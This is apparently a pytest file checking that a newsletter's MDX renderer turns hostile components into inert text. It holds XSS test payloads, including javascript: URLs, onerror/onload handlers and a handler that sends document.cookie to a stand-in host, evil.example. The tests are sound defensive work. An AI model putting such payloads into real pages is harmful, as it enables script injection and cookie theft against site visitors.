"""Hostile MDX: components and expressions by the hundred thousand, unclosed, carrying event
handlers. None is ever markup, the report stays short, and each character is
read about once (bench/bench_template_tags.py prints expansion figures)."""

from __future__ import annotations

import pytest

from newsletter.render.markdown import markdown_to_fragment
from newsletter.render.tags import TagContext, expand_tags

MDX = TagContext(site_url="https://example.com", mdx=True)


@pytest.mark.parametrize("body", [
    "<Widget onload=\"steal()\" " * 3000,  # never closed
    "{" * 10000 + "\n",
    "{\n" * 10000,
    "{/*" * 10000,
    "<Frame src='javascript:alert(1)'>\n\n" * 1000,
])
def test_floods_of_jsx_are_text_and_the_report_is_capped(body):
    expansion = expand_tags(body, MDX)
    assert 0 < len(expansion.problems) <= 101
    fragment = markdown_to_fragment(expansion.markdown, "https://example.com/posts/x")
    assert not fragment.xpath("//widget | //frame | //*[@onload] | //*[@src]")


def test_an_event_handler_in_a_component_never_becomes_an_attribute():
    body = '<Chart onmouseover="fetch(`//evil.example/${document.cookie}`)" data={{a: "}"}} />\n'
    expansion = expand_tags(body, MDX)
    assert [(problem.line, problem.warning) for problem in expansion.problems] == [(1, True)]
    fragment = markdown_to_fragment(expansion.markdown, "https://example.com/x")
    assert not fragment.xpath("//chart | //*[@onmouseover]")
    assert fragment.text_content().strip() == ""  # left out whole: a brace in a value is read


@pytest.mark.parametrize("src", ['src="javascript:alert(1)"', "src={evil}",
                                 'src="x.png" onerror="alert(1)" alt="a\\" onload=\\"b"'])
def test_an_image_component_never_carries_a_script_url_or_a_handler(src):
    body = ("import { Image } from 'astro:assets';\n"
            "import evil from 'javascript:alert(1)//.png';\n\n" f"<Image {src} />\n")
    fragment = markdown_to_fragment(expand_tags(body, MDX).markdown, "https://example.com/x")
    assert not fragment.xpath("//*[@onerror] | //*[@onload] | //img[starts-with(@src, 'java')]")
